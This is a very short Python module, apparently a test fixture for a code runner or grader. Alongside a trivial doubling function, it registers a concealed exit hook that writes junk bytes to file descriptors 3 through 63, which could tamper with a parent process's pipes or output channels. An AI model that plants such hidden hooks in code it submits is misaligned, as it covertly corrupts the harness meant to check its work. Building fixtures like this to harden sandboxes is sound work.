import atexit
import os


def double(x):
    return 2 * x


atexit.register(lambda: [os.write(fd, b"late") for fd in range(3, 64)])
